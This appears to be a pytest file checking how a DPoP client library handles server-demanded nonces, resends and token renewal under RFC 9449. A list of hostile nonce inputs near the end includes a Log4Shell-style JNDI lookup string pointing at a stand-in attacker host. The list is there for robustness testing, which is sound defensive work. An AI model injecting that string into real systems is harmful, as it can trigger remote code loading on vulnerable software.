"""The nonces that APIs demand in proofs, and what is no such demand (RFC 9449 §8.2, §9)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from requests_cc import TokenCache
from tests.support.proof_server import (
    DPoPApi,
    Proofs,
    bound_credentials,
    bound_session,
    challenge,
    demand,
    statuses,
)
from tests.support.scripts import Reply

# A nonce that is demanded: once another proof, the same token.


@pytest.mark.rule(9)
def test_a_demanded_nonce_leads_to_one_resend_with_the_same_token(authority, api, session) -> None:
    api.proofs.rotate("nonce")
    response = session.get(api.origin)
    assert statuses(response) == [401, 200]
    assert api.nonces_seen == [None, "nonce"]
    assert api.presented == ["token-1"] * 2
    assert len(authority.requests) == 1
    assert session.get(api.origin).history == []


@pytest.mark.rule(5)
def test_a_nonce_that_is_demanded_for_ever_ends_after_one_resend(authority, api) -> None:
    cache = TokenCache()
    with bound_session(bound_credentials(authority), api, cache=cache) as session:
        for number in range(10):
            api.next = [demand(f"{number}-a"), demand(f"{number}-b"), Reply()]
            response = session.get(api.origin)
            assert statuses(response) == [401, 401]
            assert len(api.next) == 1
    assert len(authority.requests) == 1
    assert cache.stats().holds == cache.stats().held == 0


def test_each_origin_has_its_own_nonce(authority, api) -> None:
    with DPoPApi(authority, Proofs("of-the-other")) as other:
        api.proofs.rotate("of-the-first")
        with bound_session(bound_credentials(authority), api, other) as session:
            for _ in range(3):
                for url in (api.origin, other.origin):
                    assert session.get(url).status_code == 200
        assert api.nonces_seen == [None, "of-the-first", "of-the-first", "of-the-first"]
        assert other.nonces_seen == [None, "of-the-other", "of-the-other", "of-the-other"]
    assert len(authority.requests) == 1


def test_the_authoritys_nonce_is_not_the_apis(authority, api, session) -> None:
    authority.proofs.rotate("of-the-authority")
    assert session.get(api.origin).status_code == 200
    assert api.nonces_seen == [None]


def test_the_nonce_of_a_success_is_used_next(api, session) -> None:
    api.next = [Reply(200, (("DPoP-Nonce", "one"),)), Reply(404, (("dpop-nonce", "two"),))]
    for _ in range(3):
        session.get(api.origin)
    assert api.nonces_seen == [None, "one", "two"]


def test_a_nonce_that_rotates_costs_one_resend_each_time(authority, api, session) -> None:
    for nonce in ("one", "two", "three"):
        api.proofs.rotate(nonce)
        assert statuses(session.get(api.origin)) == [401, 200]
        assert statuses(session.get(api.origin)) == [200]
    assert len(authority.requests) == 1


def test_a_late_response_with_an_older_nonce_does_not_spoil_the_resend(api, session) -> None:
    """The demand's body trickles in; meanwhile another answer brings the nonce of before."""

    def slowly() -> Iterator[bytes]:
        yield b"n"
        api.next = [Reply(200, (("DPoP-Nonce", "older"),))]
        assert session.get(api.origin + "/other").status_code == 200

    session.get(api.origin)
    rejected = demand("newer")
    api.next = [Reply(401, rejected.headers, pieces=slowly())]
    api.proofs.rotate("newer")
    assert statuses(session.get(api.origin)) == [401, 200]


# What is no demand for a nonce, or none that can be met.


def test_a_demand_without_a_nonce_is_the_callers(authority, api, session) -> None:
    """No other proof can be made, and another token would not help (RFC 9449 §9)."""
    api.next = [demand()]
    response = session.get(api.origin)
    assert (statuses(response), response.text) == ([401], "nonce")
    assert len(authority.requests) == 1


def test_a_nonce_without_a_demand_is_kept_and_the_token_renewed(authority, api, session) -> None:
    api.next = [Reply(401, (*challenge("invalid_token"), ("DPoP-Nonce", "by-the-way")))]
    assert statuses(session.get(api.origin)) == [401, 200]
    assert api.nonces_seen == [None, "by-the-way"]
    assert api.presented == ["token-1", "token-2"]


@pytest.mark.parametrize(
    ("challenges", "sent"),
    [
        ('Bearer error="invalid_token", DPoP error="use_dpop_nonce"', ["token-1", "token-1"]),
        ('DPoP algs="ES256", DPoP error=use_dpop_nonce', ["token-1", "token-1"]),
        ('DPoP error="invalid_token", Bearer error="use_dpop_nonce"', ["token-1", "token-2"]),
        ('Bearer error="use_dpop_nonce"', ["token-1", "token-1"]),
        ('DPoP realm="error=use_dpop_nonce", error="invalid_token"', ["token-1", "token-2"]),
        # Both at once: one resend mends both.
        ('DPoP error="use_dpop_nonce", DPoP error="invalid_token"', ["token-1", "token-2"]),
        ("use_dpop_nonce", ["token-1", "token-2"]),
    ],
)
def test_the_challenge_for_what_was_sent_decides(api, session, challenges, sent) -> None:
    api.next = [Reply(401, (("WWW-Authenticate", challenges), ("DPoP-Nonce", "nonce")))]
    assert statuses(session.get(api.origin)) == [401, 200]
    assert api.presented == sent
    assert api.nonces_seen == [None, "nonce"]


@pytest.mark.rule(9)
def test_insufficient_scope_causes_no_renewal(authority, api, session) -> None:
    api.next = [Reply(401, challenge("insufficient_scope"))]
    assert statuses(session.get(api.origin)) == [401]
    assert len(authority.requests) == 1


HOSTILE = [
    "",
    " ",
    "x" * 60_000,
    'quote"back\\slash',
    "k\xe4se",
    "tab\there",
    "a, b",
    "${jndi:ldap://evil.example/}",
]


@pytest.mark.parametrize("nonce", HOSTILE)
def test_a_hostile_nonce_ends_in_a_response_and_harms_no_other_call(
    authority, api, session, nonce: str
) -> None:
    api.next = [demand(nonce)]
    assert session.get(api.origin).status_code in (200, 401)
    api.proofs.rotate("good")
    session.get(api.origin)
    assert statuses(session.get(api.origin)) == [200]
    assert len(authority.requests) == 1


def test_two_nonces_in_one_response_end_in_a_response(authority, api, session) -> None:
    api.next = [demand("one", "two")]
    assert session.get(api.origin).status_code in (200, 401)
    assert len(authority.requests) == 1
